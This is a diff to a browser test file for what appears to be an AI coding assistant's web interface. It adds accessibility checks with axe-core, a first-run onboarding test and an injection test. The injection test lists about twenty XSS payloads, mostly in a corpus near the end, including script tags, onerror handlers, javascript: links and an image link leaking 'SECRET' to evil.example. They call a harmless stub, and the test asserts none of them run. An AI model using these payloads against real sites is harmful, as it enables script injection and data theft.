@@ -3,6 +3,7 @@ import assert from "node:assert/strict";
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, test } from "node:test";
+import axe from "axe-core";
 import { chromiumPath, openPage, signIn } from "./lib/browser.mjs";
 import { eventually, makeSession, startCodeService, startDrone, startProvider, temporaryFolder } from "./lib/processes.mjs";
 
@@ -47,6 +48,18 @@ async function picture(page, name) {
   if (!process.env.GADGET_TEST_PICTURES) return;
   await page.evaluate(() => Promise.all(document.getAnimations().filter((one) => one.effect.getTiming().iterations === 1).map((one) => one.finished)));
   await page.screenshot({ path: join(process.env.GADGET_TEST_PICTURES, `${name}.png`) });
+}
+
+/** Fails when something on the page keeps people from using it: what axe calls serious or critical, contrast included. */
+async function usable(page, where) {
+  await page.evaluate(() => Promise.all(document.getAnimations().filter((one) => one.effect.getTiming().iterations === 1).map((one) => one.finished)));
+  await page.evaluate(axe.source);
+  const { violations } = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
+  const found = violations
+    .filter((one) => ["serious", "critical"].includes(one.impact))
+    .map((one) => `${where}: ${one.id}: ${one.nodes.slice(0, 4).map((node) => `${node.html.slice(0, 200)} ${node.any[0]?.message ?? ""}`).join(" | ")}`);
+  await picture(page, where.replaceAll(" ", "-"));
+  return found;
 }
 
 describe("the page", { skip: !chromiumPath && "no Chromium is installed (package 'chromium')" }, () => {
@@ -376,6 +389,210 @@ describe("the page", { skip: !chromiumPath && "no Chromium is installed (package
       "Count the stock: The turn failed.",
       "Count the stock: The turn has ended.",
     ]);
+    assert.deepEqual(page.problems, []);
+  });
+
+  test("leads from nothing to the first answer, each step checked as it is done", async (t) => {
+    const provider = await startProvider(t);
+    const code = await startCodeService(t);
+    const call = await code.signIn();
+    const page = await signedIn(t, code, null);
+    const step = (id, state) => page.locator(`[data-testid="step"][data-step="${id}"][data-state="${state}"]`);
+    for (const id of ["drone", "provider", "project", "prompt"]) await step(id, "open").waitFor();
+    await picture(page, "first-run");
+
+    await step("provider", "open").getByRole("button", { name: "Add" }).click();
+    await page.getByRole("button", { name: "Add a provider" }).click();
+    await page.getByLabel("Name").fill("Mine");
+    await page.getByLabel("Base URL").fill("http://127.0.0.1:9/v1");
+    await page.getByRole("button", { name: "Add", exact: true }).click();
+    await page.getByText("http://127.0.0.1:9/v1").waitFor();
+    await page.getByRole("link", { name: "Gadget" }).click();
+    await step("provider", "failing").waitFor();
+    await picture(page, "first-run-failing");
+    const mine = (await call("GET", "/providers")).items[0];
+    await call("PATCH", `/providers/${mine.id}`, { baseUrl: provider.openai, defaultModel: "demo" });
+    await page.reload();
+    await step("provider", "done").waitFor();
+
+    await step("drone", "open").getByRole("button", { name: "Connect" }).click();
+    await page.getByRole("button", { name: "Connect a drone" }).waitFor();
+    await page.goBack();
+    const drone = await startDrone(t, code, call, temporaryFolder(t, "workspace"));
+    await step("drone", "done").waitFor();
+    await call("POST", "/projects", { name: "Shop" });
+    await page.reload();
+    await step("project", "done").waitFor();
+
+    await step("prompt", "open").getByRole("button", { name: "New session" }).click();
+    await page.getByTestId("create-session").click();
+    await page.getByTestId("prompt-input").waitFor();
+    await page.getByRole("link", { name: "Gadget" }).click();
+    await step("prompt", "open").getByRole("button", { name: "Open it" }).click();
+    await send(page, "[[plain]] hello");
+    await ended(page);
+    await page.getByRole("link", { name: "Gadget" }).click();
+    await page.getByRole("region", { name: "Go on with" }).getByText("[[plain]] hello").waitFor();
+    assert.equal(await page.getByTestId("step").count(), 0);
+
+    await drone.stop();
+    await page.getByRole("region", { name: "Before the next prompt" }).locator('[data-step="drone"][data-state="failing"]').waitFor({ timeout: 60_000 });
+    await picture(page, "home-drone-away");
+    assert.deepEqual(page.problems.filter((one) => !/50\d/.test(one)), []);
+  });
+
+  for (const colorScheme of ["light", "dark"]) {
+    test(`can be used by everybody, ${colorScheme}`, async (t) => {
+      const { code, call, another, session, page } = await everything(t, { colorScheme, session: { approvalPolicy: "ask" } });
+      const found = [];
+      const look = async (where, one = page) => found.push(...(await usable(one, `${where} ${colorScheme}`)));
+      const stock = await another("Count the stock");
+      await call("PATCH", `/sessions/${stock.id}`, { pinned: true });
+      const stranger = await openPage(t, { url: code.url, colorScheme });
+      await stranger.getByTestId("login-email").waitFor();
+      await look("sign-in", stranger);
+
+      const plan = "# A plan\n\n1. `code` and [a link](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |";
+      await send(page, `[[script]] ${JSON.stringify([{ thinking: "Hm.", text: plan }])}`);
+      await ended(page);
+      await page.locator("#main").focus();
+      await look("session");
+      await page.getByTestId("panel-toggle").click();
+      await page.getByTestId("tree-item").first().waitFor();
+      await look("panel");
+      await page.getByTestId("panel-toggle").click();
+      await send(page, "[[write path=a.txt content=a]]");
+      await page.getByRole("button", { name: "Approve", exact: true }).waitFor();
+      await look("approval");
+      await page.emulateMedia({ reducedMotion: "reduce" });
+      const moving = await page.evaluate(() => document.getAnimations().filter((one) => one.playState === "running").length);
+      assert.equal(moving, 0, "who wants no motion sees none");
+      await page.emulateMedia({ reducedMotion: "no-preference" });
+      await page.keyboard.press("Control+k");
+      await page.getByTestId("palette-row").first().waitFor();
+      await look("palette");
+      await page.keyboard.press("Escape");
+      await page.keyboard.press("Alt+n");
+      await page.getByTestId("create-session").waitFor();
+      await look("new session");
+      await page.keyboard.press("Escape");
+      await page.locator("#main").focus();
+      await page.keyboard.press("?");
+      await page.getByTestId("shortcuts").waitFor();
+      await look("keys");
+      await page.keyboard.press("Escape");
+      await page.getByRole("button", { name: "More for Count the stock" }).click();
+      await look("menu");
+      await page.keyboard.press("Escape");
+      for (const section of ["providers", "drones", "projects", "tokens", "browser", "users"]) {
+        await page.goto(`${code.url}/settings/${section}`);
+        await page.getByRole("heading", { level: 2 }).first().waitFor();
+        await look(`settings ${section}`);
+      }
+      await page.goto(code.url);
+      await page.getByRole("region", { name: "Go on with" }).waitFor();
+      await look("home");
+      await page.setViewportSize({ width: 360, height: 740 });
+      await look("home narrow");
+      await page.getByRole("button", { name: "Open the menu" }).click();
+      await page.getByTestId("session-link").first().waitFor();
+      await look("menu narrow");
+      await page.goto(`${code.url}/sessions/${session.id}`);
+      await page.getByRole("button", { name: "Approve", exact: true }).waitFor();
+      await look("session narrow");
+      assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
+      assert.deepEqual(found, []);
+    });
+  }
+
+  test("runs nothing and fetches nothing that foreign text says, wherever it is shown and however it comes", async (t) => {
+    const name = `<img src=x onerror="boom()">`;
+    const { code, call, workspace, session, page } = await everything(t, { session: { approvalPolicy: "ask", reasoningEffort: "medium", name: `A5 ${name}` } });
+    await page.addInitScript(() => {
+      window.ran = [];
+      window.boom = (...what) => window.ran.push(what.join() || "boom");
+      window.alert = window.boom;
+      addEventListener("securitypolicyviolation", (event) => window.ran.push(`${event.violatedDirective} ${event.blockedURI}`));
+    });
+    const evil = "https://evil.example";
+    const corpus = [
+      "<script>boom()</script>",
+      "<script src=https://evil.example/x.js></script>",
+      `<img src=x onerror=boom()>`,
+      `<svg onload=boom()><use href="${evil}/x.svg#a"/></svg>`,
+      `<svg><script>boom()</script></svg>`,
+      `<iframe srcdoc="<script>parent.boom()</script>"></iframe>`,
+      `<a href="javascript:boom()">one</a>`,
+      "[two](javascript:boom())",
+      "[three](JaVaScRiPt&colon;boom())",
+      "[four](data:text/html,<script>boom()</script>)",
+      "[five](vbscript:boom())",
+      `![six](${evil}/p.png?q=SECRET)`,
+      `![seven][r]\n\n[r]: ${evil}/q.png`,
+      `<link rel=stylesheet href=${evil}/a.css><style>@import "${evil}/b.css"; *{background:url(${evil}/c)}</style>`,
+      `<math><mtext><table><mglyph><style><img src=x onerror=boom()></style></mglyph></table></mtext></math>`,
+      `<form action=${evil}><button formaction="javascript:boom()">go</button></form>`,
+      `<details open ontoggle=boom()>x</details><video src=${evil}/v poster=${evil}/w onerror=boom()></video>`,
+      "<div style=position:fixed;inset:0 onmouseover=boom()>over all</div>",
+      "`<img src=x onerror=boom()>`",
+      "```html\n<img src=x onerror=boom()>\n```",
+      `[my bank](${evil}/login)`,
+      `| a | b |\n|---|---|\n| <img src=x onerror=boom()> | [x](javascript:boom()) |`,
+    ];
+    const all = corpus.join("\n\n");
+    writeFileSync(join(workspace, name.replaceAll("/", "")), all);
+    mkdirSync(join(workspace, "<svg onload=boom()>"));
+    await call("PATCH", `/projects/${session.projectId}`, { name: `Shop ${name}` });
+    const said = (part) => page.getByTestId("block-responding").last().getByText(part, { exact: false });
+
+    await page.goto(`${code.url}/sessions/${session.id}`);
+    await send(page, `[[script chars=1 rate=2000]] ${JSON.stringify([{ thinking: all, text: all }])}`);
+    await said("my bank").first().waitFor({ timeout: 60_000 });
+    await ended(page);
+    await page.getByRole("button", { name: /^Thought/ }).last().click();
+    await said(evil).first().waitFor();
+    const links = await page.$$eval('[data-testid="block-responding"] a', (all) => all.map((link) => [link.textContent, link.getAttribute("href"), link.dataset.host ?? null]));
+    assert.ok(links.some(([text, href, host]) => text === "my bank" && href === `${evil}/login` && host === "evil.example"), "a link shows its host");
+    assert.deepEqual(links.filter(([, href]) => href !== null && !/^https?:\/\/evil\.example/.test(href)), []);
+    assert.equal(await page.locator("#main img, #main iframe, #main script, #main style, #main form[action], #main video, #main link, #main [onerror], #main [onload]").count(), 0);
+
+    await send(page, `[[script]] ${JSON.stringify([[{ tool: "run_command", arguments: { command: `printf '%s' '${name}'` } }], [{ tool: "write_file", arguments: { path: "new <img src=x onerror=boom()>.html", content: all } }], [{ tool: name, arguments: { [name]: all } }], all])}`);
+    await page.getByRole("button", { name: "Approve", exact: true }).click();
+    await page.locator('[data-tool-name="write_file"][data-state="awaiting_approval"]').waitFor();
+    await picture(page, "xss-approval");
+    await page.getByRole("button", { name: "Approve", exact: true }).click();
+    await ended(page);
+    await page.$$eval('[data-testid="block-tool"] > button[aria-expanded="false"], [data-testid="turn-files"] button[aria-expanded="false"]', (folds) => folds.forEach((fold) => fold.click()));
+    await page.getByRole("region", { name: "Changes of the turn" }).first().waitFor();
+    await picture(page, "xss-turn");
+
+    await page.getByTestId("panel-toggle").click();
+    await page.getByTestId("tree-item").first().waitFor();
+    for (const path of [name.replaceAll("/", ""), "new <img src=x onerror=boom()>.html"]) {
+      await page.getByTestId("tree-item").filter({ hasText: path }).first().click();
+      await page.getByTestId("code").locator(".cm-content").getByText("<script>boom()").first().waitFor();
+      await page.getByRole("button", { name: "Back to the files" }).click();
+    }
+    await page.getByTestId("tree-item").filter({ hasText: "<svg onload" }).click();
+    await page.getByTestId("panel-tab-changes").click();
+    await page.getByTestId("panel-tab-changes").waitFor();
+    await page.getByTestId("prompt-input").fill("");
+    await page.getByTestId("prompt-input").pressSequentially("@");
+    await page.getByTestId("mentions").getByText("<img").first().waitFor();
+    await page.getByTestId("mentions").getByText("<svg").first().waitFor();
+    await page.keyboard.press("Escape");
+    await page.getByTestId("prompt-input").fill("");
+    await send(page, `[[plain]] ${all}`);
+    await ended(page);
+    await page.keyboard.press("Control+k");
+    await page.getByTestId("palette-input").fill(name);
+    await page.keyboard.press("Escape");
+    const ran = await page.evaluate(() => window.ran);
+    await page.goto(code.url);
+    await page.getByRole("region", { name: "Go on with" }).getByText("<img").first().waitFor();
+    await page.getByTestId("session-list").getByText("Shop <img").waitFor();
+
+    assert.deepEqual([...ran, ...(await page.evaluate(() => window.ran))], []);
     assert.deepEqual(page.problems, []);
   });
 });
